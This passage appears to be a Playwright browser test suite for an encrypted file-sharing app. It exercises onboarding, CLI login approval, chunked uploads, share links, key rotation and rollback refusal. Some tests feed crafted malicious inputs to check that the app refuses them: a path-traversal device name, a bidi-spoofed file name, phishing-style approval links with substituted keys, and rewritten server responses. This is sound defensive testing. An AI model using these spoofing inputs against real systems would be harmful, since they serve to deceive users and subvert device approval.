// run.mjs -- the browser suite: Debian's chromium, driven headless by playwright-core, against
// the test stack (POUCH_URL), as a person uses the web app: onboarding with the recovery kit, a
// CLI login approved by typing its terminal's code (the CLI then decrypts its pouch key and a
// file), approval links the page refuses, the real `pouch login` approved in the page, a
// 5 MB upload and download, share links opened without a session (one-time ones once), a
// device revoke with key rotation (its removal naming rotated_to), a rolled-back key generation
// refused with a banner, the admin pages, and a stale upload from a second tab kept as a
// conflict copy. Each page is screenshotted into
// POUCH_BROWSER_OUT. Prints `PASS name` / `FAIL name: detail`; a failed step fails the steps
// that build on it. Chromium's own calls to outside hosts go to a proxy that is not there
// (--proxy-server=http://127.0.0.1:9): no test traffic leaves the machine.
// Env: POUCH_URL, POUCHCTL, POUCH_DATABASE_URL, POUCH_ROOT, POUCH_BROWSER_OUT.
import { execFileSync, spawn } from 'node:child_process';
import * as nodeCrypto from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';

import { chromium } from 'playwright-core';

import { Cli } from './cli.mjs';
import { sharingSteps } from './sharing.mjs';

const BASE = process.env.POUCH_URL;
const ROOT = process.env.POUCH_ROOT;
const OUT = process.env.POUCH_BROWSER_OUT;
fs.mkdirSync(OUT, { recursive: true });
const W = await import(pathToFileURL(path.join(ROOT, 'clients/web/src/crypto/format.js')).href);
const WP = await import(pathToFileURL(path.join(ROOT, 'clients/web/src/crypto/primitives.js')).href);
const CDC = await import(pathToFileURL(path.join(ROOT, 'clients/web/src/crypto/cdc.js')).href);

// ---- reporting -----------------------------------------------------------------------------

let failed = 0;
const broken = new Set();
async function test(name, needs, fn) {
  const missing = needs.filter((n) => broken.has(n));
  if (missing.length) {
    failed++;
    broken.add(name);
    console.log(`FAIL ${name}: not run, it needs ${missing.join(', ')}`);
    return;
  }
  const t0 = Date.now();
  try {
    await fn();
    console.log(`PASS ${name} (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
  } catch (e) {
    failed++;
    broken.add(name);
    console.log(`FAIL ${name}: ${String(e.message).split('\n').slice(0, 4).join(' | ')}`);
    await page.screenshot({ path: path.join(OUT, `FAILED-${name}.png`), fullPage: true }).catch(() => {});
  }
}
function eq(what, got, want) {
  if (got !== want) throw new Error(`${what}: got ${JSON.stringify(got)?.slice(0, 200)}, want ${JSON.stringify(want)?.slice(0, 200)}`);
}
function ok(cond, what) { if (!cond) throw new Error(what); }

// Pages with live updates hold a long-poll open, so the network is never idle: a short pause
// lets the last render settle instead.
async function shot(page, name) {
  await page.waitForTimeout(200);
  await page.screenshot({ path: path.join(OUT, `${name}.png`), fullPage: true });
}

const psql = (q) => execFileSync('psql', [process.env.POUCH_DATABASE_URL, '-XtAq', '-c', q], { encoding: 'utf8' }).trim();

async function apiAs(token, method, p, body) {
  const headers = { Authorization: `Bearer ${token}` };
  if (body !== undefined) headers['Content-Type'] = 'application/json';
  const res = await fetch(BASE + p, { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
  return { status: res.status, json: await res.json() };
}

// ---- the browser ---------------------------------------------------------------------------

const browser = await chromium.launch({
  executablePath: '/usr/bin/chromium',
  headless: true,
  // Chromium calls outside hosts on its own even with background networking off; every such
  // call goes to a proxy that is not there (loopback, the test stack, is never proxied).
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage', '--proxy-server=http://127.0.0.1:9'],
});
const newContext = (opts = {}) => browser.newContext({ acceptDownloads: true, viewport: { width: 1100, height: 760 }, ...opts });
const pageErrors = [];
function watch(page) {
  page.on('pageerror', (e) => pageErrors.push(e.message));
  page.on('console', (m) => { if (m.type() === 'error' && /Content Security Policy|Refused/.test(m.text())) pageErrors.push(m.text()); });
  page.on('dialog', (d) => d.accept());
  return page;
}

const S = {};                                   // what the steps hand on
const email = `ada.${nodeCrypto.randomUUID().slice(0, 8)}@example.com`;
const ctx = await newContext();
const page = watch(await ctx.newPage());
const token = () => page.evaluate(() => localStorage.getItem('pouch.session'));

await test('onboarding_makes_keys_kit_roster_and_first_pouch', [], async () => {
  await page.goto(`${BASE}/`);
  await page.getByRole('heading', { name: 'Log in' }).waitFor();
  eq('redirect of /', new URL(page.url()).pathname, '/login');
  // Signed out there is nothing to navigate to: no "Main" navigation landmark (not an empty one).
  eq('navigation landmarks signed out', await page.getByRole('navigation').count(), 0);
  await shot(page, 'login');
  await page.getByRole('link', { name: 'Create an account' }).click();
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill('correct horse battery');
  await shot(page, 'signup');
  await page.getByRole('button', { name: 'Sign up' }).click();
  await page.getByRole('button', { name: 'Make my keys' }).waitFor();
  eq('after signup', new URL(page.url()).pathname, '/onboarding');
  await shot(page, 'onboarding');
  await page.getByRole('button', { name: 'Make my keys' }).click();
  S.code = (await page.getByTestId('recovery-code').textContent()).trim();
  ok(/^([0-9A-HJKMNP-TV-Z]{4}-){7}[0-9A-HJKMNP-TV-Z]{4}$/.test(S.code), `recovery code shape: ${S.code}`);
  ok(await page.getByRole('button', { name: 'Create my account' }).isDisabled(), 'account creation must wait for the kit');
  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download recovery kit' }).click()]);
  eq('kit file name', dl.suggestedFilename(), 'pouch-recovery-kit.json');
  S.kit = JSON.parse(fs.readFileSync(await dl.path(), 'utf8'));
  await page.getByLabel('I have saved the recovery kit').check();
  await shot(page, 'onboarding-kit');
  await page.getByRole('button', { name: 'Create my account' }).click();
  await page.getByRole('link', { name: 'Pouch 1' }).waitFor();
  eq('after genesis', new URL(page.url()).pathname, '/pouches');
  const mainNav = page.getByRole('navigation', { name: 'Main' });
  eq('the Main navigation signed in', (await mainNav.getByRole('listitem').allTextContents()).join(','),
    'Pouches,Shares,Invitations,Devices,Connect CLI,Account,Log out');
  await shot(page, 'pouches');

  S.token = await token();
  const acct = (await apiAs(S.token, 'GET', '/v1/account')).json.data;
  ok(acct.member_id, 'the account has a member after genesis');
  S.account = acct;
  eq('kit member', S.kit.member_id, acct.member_id);
  eq('kit account', S.kit.account_id, acct.storage_account_id);
  const roster = (await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items;
  eq('roster length', roster.length, 1);
  const verified = await W.verifyRoster(roster);
  const me = verified.members.get(acct.member_id);
  eq('statement 0 label', me.label, 'web');
  const keys = await W.openRecoveryKit(S.kit, S.code.toLowerCase());
  ok(WP.sameJwk(WP.publicJwk(keys.signPriv), me.sign_pub) && WP.sameJwk(WP.publicJwk(keys.encPriv), me.enc_pub), 'kit keys = roster keys');
  const pouches = (await apiAs(S.token, 'GET', '/v1/pouches')).json.data.items;
  eq('pouches', pouches.length, 1);
  S.pouch = pouches[0];
  eq('first key_gen', S.pouch.key_gen, 1);
  // The keys this browser keeps cannot be exported.
  const extractable = await page.evaluate(() => new Promise((resolve, reject) => {
    const req = indexedDB.open('pouch');
    req.onsuccess = () => {
      const t = req.result.transaction('members').objectStore('members').getAll();
      t.onsuccess = () => resolve(t.result.map((m) => [m.sign.privateKey.extractable, m.enc.privateKey.extractable]));
      t.onerror = () => reject(t.error);
    };
  }));
  eq('IndexedDB private keys extractable', JSON.stringify(extractable), '[[false,false]]');
});

await test('upload_then_download_5mb_and_a_small_file', ['onboarding_makes_keys_kit_roster_and_first_pouch'], async () => {
  await page.getByRole('link', { name: 'Pouch 1' }).click();
  await page.getByText('live updates on').waitFor();
  S.big = nodeCrypto.randomBytes(5 * 1024 * 1024);
  S.small = Buffer.from('Hello from the browser suite.\n');
  // "Upload files" is a label over a hidden input: reached by Tab, it shows the focus ring;
  // while an upload runs it looks disabled (as its input is).
  const uploadLabel = page.locator('label.button', { hasText: 'Upload files' });
  const look = () => uploadLabel.evaluate((el) => {
    const c = getComputedStyle(el);
    return `${c.outlineStyle === 'none' ? 'none' : `${c.outlineStyle} ${c.outlineWidth}`} ${c.opacity}`;
  });
  eq('the upload label unfocused', await look(), 'none 1');
  await page.getByRole('link', { name: 'All pouches' }).focus();
  await page.keyboard.press('Tab');
  eq('Tab after "All pouches"', await page.evaluate(() => document.activeElement.id), 'upload');
  eq('the upload label with keyboard focus', await look(), 'solid 3px 1');
  await shot(page, 'pouch-upload-focus');
  await page.keyboard.press('Shift+Tab');
  // Read in one go, the first moment the label is dimmed: is its input disabled, how does it look.
  const sawDisabledLook = page.waitForFunction(() => {
    const input = document.getElementById('upload');
    const label = input?.closest('label');
    if (!label?.classList.contains('disabled')) return null;
    const c = getComputedStyle(label);
    return [input.disabled, `${c.outlineStyle === 'none' ? 'none' : `${c.outlineStyle} ${c.outlineWidth}`} ${c.opacity}`];
  }, null, { timeout: 20000, polling: 'raf' }).then((h) => h.jsonValue(), () => null);
  const sawProgress = page.locator('progress').first().waitFor({ timeout: 20000 }).then(() => true, () => false);
  await page.locator('#upload').setInputFiles([
    { name: 'big.bin', mimeType: 'application/octet-stream', buffer: S.big },
    { name: 'hello.txt', mimeType: 'text/plain', buffer: S.small },
  ]);
  ok(await sawProgress, 'a progress bar is shown while uploading');
  eq('while uploading: the input disabled, the label dimmed', JSON.stringify(await sawDisabledLook), JSON.stringify([true, 'none 0.55']));
  await page.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor({ timeout: 60000 });
  await page.getByRole('cell', { name: 'big.bin', exact: true }).waitFor();
  await page.locator('label.button:not(.disabled)', { hasText: 'Upload files' }).waitFor();
  await shot(page, 'pouch');
  const arts = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/artifacts`)).json.data.items;
  eq('artifacts', arts.length, 2);
  const blobs = arts.map((a) => a.head.blob_ids.length).sort().join();
  // (The 5 MiB file is cut where CLIENT-FORMAT "Chunk boundaries" says: 2 or 3 chunks.)
  eq('blob ids per artifact (inline, its chunks)', blobs, `0,${CDC.cdcChunkLengths(S.big).length}`);
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.getByRole('button', { name: 'Download big.bin' }).click()]);
  const got = fs.readFileSync(await dl.path());
  eq('downloaded size', got.length, S.big.length);
  ok(got.equals(S.big), 'downloaded bytes equal the uploaded ones');
  const [dl2] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download hello.txt' }).click()]);
  ok(fs.readFileSync(await dl2.path()).equals(S.small), 'small file equal');
  await page.getByRole('button', { name: 'History of hello.txt' }).click();
  await page.getByRole('heading', { name: 'History of hello.txt' }).waitFor();
  await page.getByText(/hello\.txt, 30 B · by web/).waitFor();
  await shot(page, 'history');
  await page.getByRole('button', { name: 'Close history' }).click();
});

// A large file replaced by a copy with its last byte changed: the app reuses the entries of
// the chunks whose plaintext is unchanged (CLIENT-FORMAT "Chunks"), so only the last chunk is
// sealed and uploaded again; the same artifact gets a new head, and reads back as the copy.
await test('replacing_a_large_file_uploads_only_its_changed_chunk', ['upload_then_download_5mb_and_a_small_file'], async () => {
  const artifacts = async () => (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/artifacts`)).json.data.items;
  const before = (await artifacts()).find((a) => a.head.blob_ids.length > 1);
  ok(before, 'big.bin is listed with its chunks');
  const changed = Buffer.from(S.big);
  changed[changed.length - 1] ^= 0xff;
  await page.locator('#upload').setInputFiles([{ name: 'big.bin', mimeType: 'application/octet-stream', buffer: changed }]);
  let after;
  for (let i = 0; i < 300 && !(after && after.head.id !== before.head.id); i++) {
    await page.waitForTimeout(200);
    after = (await artifacts()).find((a) => a.id === before.id);
  }
  ok(after && after.head.id !== before.head.id, 'big.bin got a new head');
  eq('base of the new head', after.head.base_revision_id, before.head.id);
  const [b, a] = [before.head.blob_ids, after.head.blob_ids];
  eq('chunks', a.length, b.length);
  eq('blobs kept from the old head', a.filter((id) => b.includes(id)).length, b.length - 1);
  eq('new blobs', a.filter((id) => !b.includes(id)).length, 1);
  await page.locator('label.button:not(.disabled)', { hasText: 'Upload files' }).waitFor();
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.getByRole('button', { name: 'Download big.bin' }).click()]);
  ok(fs.readFileSync(await dl.path()).equals(changed), 'big.bin reads back as the changed copy');
  S.big = changed;
});

await test('cli_login_approved_with_its_code_then_cli_decrypts_its_pouch_key', ['upload_then_download_5mb_and_a_small_file'], async () => {
  const cli = new Cli(W, WP, 'build-box');
  S.cli = cli;
  const shown = await cli.start();
  const redeemed = cli.redeem();
  await page.goto(shown.link);
  await page.getByTestId('device-name').waitFor();
  eq('device shown', await page.getByTestId('device-name').textContent(), 'build-box');
  await page.getByText('linux · x86_64').waitFor();
  eq('the page shows the terminal\'s key fingerprint', await page.getByTestId('fingerprint').textContent(), shown.fingerprint);
  const details = (await apiAs(S.token, 'GET', `/v1/cli-auth/requests/${shown.requestId}`)).json.data;
  const started = await page.getByTestId('started').textContent();
  if (details.started_ip) ok(started.endsWith(` from ${details.started_ip}`), `"Started" names the address: ${started}`);
  eq('the no-connect-token warning is shown exactly when the login had none',
    await page.getByTestId('no-connect-token').count(), details.connect_token_used === false ? 1 : 0);
  ok(!(await page.content()).includes(shown.code), 'the page never shows the code');
  ok(await page.getByRole('button', { name: 'Approve' }).isDisabled(), 'Approve waits for 12 digits');
  const wrong = shown.code.replace(/^\d/, (d) => String((Number(d) + 1) % 10));
  await page.getByLabel('Type the code your terminal shows').fill(wrong);
  await page.getByRole('button', { name: 'Approve' }).click();
  await page.getByText('The code does not match').waitFor();
  eq('a wrong code approves nothing', (await apiAs(S.token, 'GET', `/v1/cli-auth/requests/${shown.requestId}`)).json.data.status, 'pending');
  await page.getByLabel('Type the code your terminal shows').fill(shown.code.replace(/-/g, ' '));
  await shot(page, 'cli-approve');
  await page.getByRole('button', { name: 'Approve' }).click();
  await page.getByText('Approved.').waitFor({ timeout: 30000 });
  await shot(page, 'cli-approved');
  const r = await redeemed;
  eq('token type', r.token_type, 'DPoP');
  const joined = await cli.join();
  eq('welcome account', joined.welcome.account_id, S.account.storage_account_id);
  eq('welcome approver', joined.welcome.approver.member_id, S.account.member_id);
  ok(cli.keys.has(`${S.pouch.id}/1`), 'the CLI opened its key envelope of key_gen 1');
  const files = await cli.files(S.pouch.id);
  const hello = files.find((f) => f.name === 'hello.txt');
  ok(hello, 'the CLI sees hello.txt');
  eq('CLI decrypts hello.txt', Buffer.from(hello.data, 'base64url').toString(), S.small.toString());
  const big = files.find((f) => f.name === 'big.bin');
  eq('CLI reads big.bin\'s chunks, cut where the format says', JSON.stringify(big.chunks.map((c) => c.size)),
    JSON.stringify(CDC.cdcChunkLengths(S.big)));
  const devices = await cli.call('GET', '/v1/devices');
  eq('CLI token works', devices.status, 200);
  // Reload: a decided request is explained, not refused.
  await page.reload();
  await page.getByText('already been approved').or(page.getByText('the terminal is signed in')).first().waitFor();
});

await test('approval_page_explains_unknown_and_denied_requests', ['cli_login_approved_with_its_code_then_cli_decrypts_its_pouch_key'], async () => {
  await page.goto(`${BASE}/cli/approve?request=${nodeCrypto.randomUUID()}`);
  await page.getByText('There is no such login request').waitFor();
  await shot(page, 'cli-approve-unknown');
  const other = new Cli(W, WP, 'stranger');
  const shown = await other.start();
  await page.goto(shown.link);
  await page.getByRole('button', { name: 'Deny' }).click();
  await page.getByText('Denied.').waitFor();
  // A refusal is not shown as a success: a neutral box, not the green one of "Approved."
  const denied = page.locator('p.notice', { hasText: 'Denied.' });
  eq('style of "Denied."', await denied.getAttribute('class'), 'notice refused');
  const okGreen = await page.evaluate(() => {
    const p = document.createElement('p');
    p.className = 'notice ok';
    document.body.append(p);
    const c = getComputedStyle(p).backgroundColor;
    p.remove();
    return c;
  });
  ok(await denied.evaluate((el, g) => getComputedStyle(el).backgroundColor !== g, okGreen), '"Denied." has the success background');
  await shot(page, 'cli-approve-denied');
  const r = await other.call('POST', '/v1/cli-auth/token', { request_id: other.requestId, code_verifier: other.verifier, wait: 0 });
  eq('denied redeem', `${r.status} ${r.json.error?.code}`, '403 access_denied');
  other.cleanup();
});

// The page takes the CLI's keys from the link's fragment only, and refuses, naming the reason,
// a link without it, a malformed one, and keys that are not the request's; Approve stays
// disabled and nothing is approved. Deny still works.
await test('approval_page_refuses_a_link_without_its_keys_or_with_other_keys', ['approval_page_explains_unknown_and_denied_requests'], async () => {
  const cli = new Cli(W, WP, 'phish-box');
  const other = new Cli(W, WP, 'other-box');
  try {
    const shown = await cli.start();
    const [, frag] = shown.link.split('#');
    const otherFrag = `keys=${[other.signPub.x, other.signPub.y, other.encPub.x, other.encPub.y].join('.')}&n=${frag.split('&n=')[1]}`;
    const onlyEnc = `keys=${[cli.signPub.x, cli.signPub.y, other.encPub.x, other.encPub.y].join('.')}&n=${frag.split('&n=')[1]}`;
    const cases = [
      ['no fragment', shown.link.split('#')[0], 'opened without the part of the link after'],
      ['no nonce', `${shown.link.split('&n=')[0]}`, 'is malformed'],
      ['a cut nonce', shown.link.slice(0, -1), 'is malformed'],
      ['keys of another device', `${shown.link.split('#')[0]}#${otherFrag}`, 'differ from the keys this login request was started with'],
      ['another encryption key', `${shown.link.split('#')[0]}#${onlyEnc}`, 'differ from the keys this login request was started with'],
    ];
    for (const [what, link, words] of cases) {
      await page.goto(`${BASE}/pouches`);
      await page.goto(link);
      await page.getByTestId('refusal').waitFor();
      const text = await page.getByTestId('refusal').textContent();
      ok(text.includes(words), `${what}: the refusal says why (${text})`);
      ok(await page.getByRole('button', { name: 'Approve' }).isDisabled(), `${what}: Approve is disabled`);
      eq(`${what}: no fingerprint shown`, await page.getByTestId('fingerprint').count(), 0);
      if (what === 'keys of another device') await shot(page, 'cli-approve-refused');
    }
    const status = (await apiAs(S.token, 'GET', `/v1/cli-auth/requests/${shown.requestId}`)).json.data.status;
    eq('nothing was approved', status, 'pending');
    await page.getByRole('button', { name: 'Deny' }).click();
    await page.getByText('Denied.').waitFor();
  } finally {
    cli.cleanup();
    other.cleanup();
  }
});

// What the page makes of the request details a server answers (here rewritten on their way to
// the page, as a malicious server could answer them): where and how the login started, and
// refusals of details that name another request or a device name outside the label rule.
await test('approval_page_shows_where_a_login_started_and_refuses_details_it_cannot_trust', ['approval_page_explains_unknown_and_denied_requests'], async () => {
  const cli = new Cli(W, WP, 'route-box');
  const shown = await cli.start();
  const detailsPath = new RegExp(`/v1/cli-auth/requests/${shown.requestId}$`);
  const answer = async (change) => {
    await page.unroute(detailsPath).catch(() => {});
    await page.route(detailsPath, async (route) => {
      const res = await route.fetch();
      const body = await res.json();
      change(body.data);
      await route.fulfill({ response: res, json: body });
    });
    await page.goto(`${BASE}/pouches`);
    await page.goto(shown.link);
    await page.getByTestId('device-name').waitFor();
  };
  try {
    await answer((d) => { d.started_ip = '203.0.113.7'; d.connect_token_used = false; });
    ok((await page.getByTestId('started').textContent()).endsWith(' from 203.0.113.7'), 'Started names the address');
    eq('the warning without a connect token', await page.getByTestId('no-connect-token').textContent(),
      'This login was not started with a connect token from your account. Approve it only if you started it yourself, just now, in your own terminal.');
    eq('the fingerprint', await page.getByTestId('fingerprint').textContent(), shown.fingerprint);
    await shot(page, 'cli-approve-warning');
    await answer((d) => { d.connect_token_used = true; });
    await page.getByTestId('fingerprint').waitFor();
    eq('no warning with a connect token', await page.getByTestId('no-connect-token').count(), 0);
    const refusals = [
      ['details of another request', (d) => { d.id = nodeCrypto.randomUUID(); }, 'another login request than the one in this address'],
      ['a device name with a path in it', (d) => { d.device_name = 'x/../../../SOMEWHERE/PWNED'; }, 'cannot be a device name: it holds a / or \\'],
      ['a device name with a bidi control', (d) => { d.device_name = 'laptop\u202Etxt.exe'; }, 'cannot be a device name: it holds a control or bidi character'],
      ['another sign_jkt', (d) => { d.sign_jkt = d.sign_jkt.replace(/^./, (c) => (c === 'A' ? 'B' : 'A')); }, 'is not the thumbprint of the key in the link'],
      ['no keys in the details', (d) => { delete d.sign_pub; }, 'does not show the keys of this login request'],
    ];
    for (const [what, change, words] of refusals) {
      await answer(change);
      await page.getByTestId('refusal').waitFor();
      const text = await page.getByTestId('refusal').textContent();
      ok(text.includes(words), `${what}: the refusal says why (${text})`);
      ok(await page.getByRole('button', { name: 'Approve' }).isDisabled(), `${what}: Approve is disabled`);
      if (what === 'a device name with a bidi control') {
        ok((await page.getByTestId('device-name').textContent()).includes('\uFFFD'), 'the bidi control is not shown as is');
      }
    }
    eq('nothing was approved', (await apiAs(S.token, 'GET', `/v1/cli-auth/requests/${shown.requestId}`)).json.data.status, 'pending');
  } finally {
    await page.unroute(detailsPath).catch(() => {});
    cli.cleanup();
  }
});

await test('share_link_opens_without_session_and_one_time_link_once', ['upload_then_download_5mb_and_a_small_file'], async () => {
  await page.goto(`${BASE}/pouches/${S.pouch.id}`);
  const makeLink = async (oneTime) => {
    await page.getByRole('button', { name: 'Share hello.txt' }).click();
    await page.getByLabel('Link expires').selectOption('30d');
    if (oneTime) await page.getByLabel('One-time link').check();
    if (!oneTime) await shot(page, 'share-create');
    await page.getByRole('button', { name: 'Create link' }).click();
    const link = await page.getByLabel('Share link').inputValue();
    await page.getByRole('button', { name: 'Done' }).click();
    return link;
  };
  const link = await makeLink(false);
  ok(new RegExp(`^${BASE}/s/[0-9a-f-]{36}#[A-Za-z0-9_-]{43}$`).test(link), `link shape: ${link}`);
  const oneTime = await makeLink(true);
  // A fresh context: no session, no IndexedDB, no local storage.
  for (const [i, url] of [link, link].entries()) {
    const c = await newContext();
    const p = watch(await c.newPage());
    await p.goto(url);
    await p.getByRole('button', { name: 'Open the file' }).click();
    await p.getByTestId('share-name').waitFor();
    eq('shared name', await p.getByTestId('share-name').textContent(), 'hello.txt');
    eq('shared text', await p.getByTestId('share-text').textContent(), S.small.toString());
    if (i === 0) await shot(p, 'share-public');
    eq('navigation landmarks on a share opened signed out', await p.getByRole('navigation').count(), 0);
    eq('no session in a fresh context', await p.evaluate(() => localStorage.getItem('pouch.session')), null);
    await c.close();
  }
  const c1 = await newContext();
  const p1 = watch(await c1.newPage());
  await p1.goto(oneTime);
  await p1.getByRole('button', { name: 'Open the file' }).click();
  const [dl] = await Promise.all([p1.waitForEvent('download'), (async () => {
    await p1.getByTestId('share-name').waitFor();
    await p1.getByRole('button', { name: 'Download hello.txt' }).click();
  })()]);
  ok(fs.readFileSync(await dl.path()).equals(S.small), 'one-time share downloads the same bytes');
  await c1.close();
  const c2 = await newContext();
  const p2 = watch(await c2.newPage());
  await p2.goto(oneTime);
  await p2.getByRole('button', { name: 'Open the file' }).click();
  await p2.getByTestId('share-gone').waitFor();
  ok(/already been used|no longer works/.test(await p2.getByTestId('share-gone').textContent()), 'says the link is used up');
  await shot(p2, 'share-gone');
  await c2.close();
  // The owner's list: both links, one consumed; revoke the other, then it is refused.
  await page.getByRole('link', { name: 'Shares' }).click();
  await page.getByText('consumed').waitFor();
  await shot(page, 'shares');
  const shareId = link.split('/s/')[1].split('#')[0];
  const row = page.getByTestId(`share-${shareId}`);
  // Each link offers only what still makes sense: an active one copy and revoke, a used
  // one-time link (and, below, a revoked one) its state and no button.
  const buttons = async (r) => (await r.getByRole('button').allTextContents()).join(',');
  const usedRow = page.getByTestId(`share-${oneTime.split('/s/')[1].split('#')[0]}`);
  eq('state of the used one-time link', (await usedRow.locator('.state').textContent()).trim(), 'consumed');
  eq('buttons of the used one-time link', await buttons(usedRow), '');
  eq('state of the active link', (await row.locator('.state').textContent()).trim(), 'active');
  eq('buttons of the active link', await buttons(row), 'Copy link,Revoke');
  await row.getByRole('button', { name: 'Revoke the link of hello.txt' }).click();
  await row.getByText('revoked', { exact: true }).waitFor();
  eq('buttons of the revoked link', await buttons(row), '');
  await shot(page, 'shares-revoked');
  const f = await fetch(`${BASE}/v1/shares/${shareId}`);
  eq('revoked share fetch', f.status, 410);
});

await test('revoking_a_device_rotates_keys_and_the_device_gets_401', ['cli_login_approved_with_its_code_then_cli_decrypts_its_pouch_key'], async () => {
  await page.getByRole('link', { name: 'Devices' }).click();
  await page.getByRole('cell', { name: 'build-box', exact: true }).waitFor();
  await shot(page, 'devices');
  await page.getByRole('button', { name: 'Revoke build-box' }).click();
  await page.getByText('Revoked. Every pouch now has new keys').waitFor({ timeout: 30000 });
  await shot(page, 'devices-revoked');
  const pouch = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data;
  eq('key_gen after rotation', pouch.key_gen, 2);
  const envs = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/key-envelopes?key_gen=2`)).json.data.items;
  eq('gen-2 envelopes go to the remaining member only', envs.map((e) => e.member_id).join(), S.account.member_id);
  const roster = await W.verifyRoster((await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items);
  eq('roster: genesis, add, remove', roster.hashes.length, 3);
  const removal = W.decodeStatement((await apiAs(S.token, 'GET', '/v1/account/roster')).json.data.items[2].statement);
  eq('the removal fixes the generation its rotation moved to', `${removal.kind} ${removal.rotated_to}`, 'remove 2');
  ok(!roster.active.some((m) => m.member_id === S.cli.memberId), 'the CLI member is no longer active');
  const r = await S.cli.call('GET', '/v1/devices');
  eq('revoked CLI', `${r.status} ${r.json.error?.code}`, '401 device_revoked');
  // The browser writes under the new generation and still reads the old files.
  await page.goto(`${BASE}/pouches/${S.pouch.id}`);
  await page.getByText('key generation 2').waitFor();
  await page.locator('#upload').setInputFiles({ name: 'after.txt', mimeType: 'text/plain', buffer: Buffer.from('after rotation') });
  await page.getByRole('cell', { name: 'after.txt', exact: true }).waitFor({ timeout: 30000 });
  await page.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor();
  const arts = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/artifacts`)).json.data.items;
  eq('new revision key_gen', arts.find((a) => a.head.key_gen === 2) !== undefined, true);
  // Its keys, as they would leak from the removed device (a later step forges with them).
  S.removed = { memberId: S.cli.memberId, signPriv: nodeCrypto.createPrivateKey(fs.readFileSync(S.cli.signPem)).export({ format: 'jwk' }) };
  S.cli.cleanup();
});

await test('a_device_that_revoked_itself_shows_rotation_pending_until_the_keys_are_rotated', ['revoking_a_device_rotates_keys_and_the_device_gets_401'], async () => {
  // A second CLI, approved in the page, then `pouch logout` style: it revokes itself without a
  // rotation. The devices page says a rotation is owed until the user rotates the keys.
  const cli = new Cli(W, WP, 'side-box');
  const shown = await cli.start();
  const redeemed = cli.redeem();
  await page.goto(shown.link);
  await page.getByTestId('device-name').waitFor();
  await page.getByLabel('Type the code your terminal shows').fill(shown.code);
  await page.getByRole('button', { name: 'Approve' }).click();
  await page.getByText('Approved.').waitFor({ timeout: 30000 });
  const r = await redeemed;
  // Approved after a rotation: it is given every generation, so it reads the older files too.
  await cli.join();
  ok(cli.keys.has(`${S.pouch.id}/1`) && cli.keys.has(`${S.pouch.id}/2`), 'the new CLI holds key generations 1 and 2');
  const old = (await cli.files(S.pouch.id)).find((f) => f.name === 'hello.txt');
  eq('a file of generation 1 opens', Buffer.from(old.data, 'base64url').toString(), S.small.toString());
  const self = await cli.call('POST', `/v1/devices/${r.device_id}/revoke`, {});
  eq('self revoke', `${self.status} ${self.json.data?.rotation_pending}`, '200 true');
  await page.goto(`${BASE}/devices`);
  await page.getByTestId('rotation-pending').waitFor();
  ok((await page.getByTestId('rotation-pending').textContent()).includes('side-box'), 'names the device');
  await page.getByText(/· key rotation pending/).first().waitFor();
  await shot(page, 'devices-rotation-pending');
  const before = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
  await page.getByRole('button', { name: 'Rotate keys now' }).click();
  await page.getByTestId('rotation-pending').waitFor({ state: 'detached', timeout: 30000 });
  const after = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data;
  eq('key_gen after the rotation', after.key_gen, before + 1);
  const envs = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}/key-envelopes?key_gen=${after.key_gen}`)).json.data.items;
  eq('new keys only for the remaining member', envs.map((e) => e.member_id).join(), S.account.member_id);
  const list = (await apiAs(S.token, 'GET', '/v1/devices')).json.data.items;
  eq('no rotation owed any more', list.filter((d) => d.rotation_pending).length, 0);
  cli.cleanup();
});

await test('a_rolled_back_key_generation_turns_uploads_and_deletes_off_with_a_banner', ['a_device_that_revoked_itself_shows_rotation_pending_until_the_keys_are_rotated'], async () => {
  // The browser opens the pouch at its current generation (its high-water mark rises to it);
  // then the server names the generation before (a rollback, played here in the database).
  const sql = (q) => execFileSync('psql', [process.env.POUCH_DATABASE_URL, '-XtAq', '-c', q], { encoding: 'utf8' }).trim();
  const gen = (await apiAs(S.token, 'GET', `/v1/pouches/${S.pouch.id}`)).json.data.key_gen;
  await page.goto(`${BASE}/pouches/${S.pouch.id}`);
  await page.getByText(`key generation ${gen}`).waitFor();
  await page.getByRole('cell', { name: 'after.txt', exact: true }).waitFor();
  eq('no banner at the current generation', await page.getByTestId('write-blocked').count(), 0);
  const revisions = sql(`SELECT count(*) FROM revisions WHERE pouch_id = '${S.pouch.id}'`);
  sql(`UPDATE pouches SET key_gen = ${gen - 1} WHERE id = '${S.pouch.id}'`);
  try {
    await page.reload();
    await page.getByTestId('write-blocked').waitFor();
    const text = await page.getByTestId('write-blocked').textContent();
    ok(text.includes(`key generation ${gen - 1}`) && text.includes('rollback'), `the banner names the rollback: ${text}`);
    ok(await page.locator('#upload').isDisabled(), 'uploads are off');
    ok(await page.getByRole('button', { name: 'Delete after.txt' }).isDisabled(), 'deletes are off');
    await page.getByRole('cell', { name: 'hello.txt', exact: true }).waitFor();  // reading goes on
    await shot(page, 'pouch-rollback-refused');
    eq('nothing written', sql(`SELECT count(*) FROM revisions WHERE pouch_id = '${S.pouch.id}'`), revisions);
  } finally {
    sql(`UPDATE pouches SET key_gen = ${gen} WHERE id = '${S.pouch.id}'`);
  }
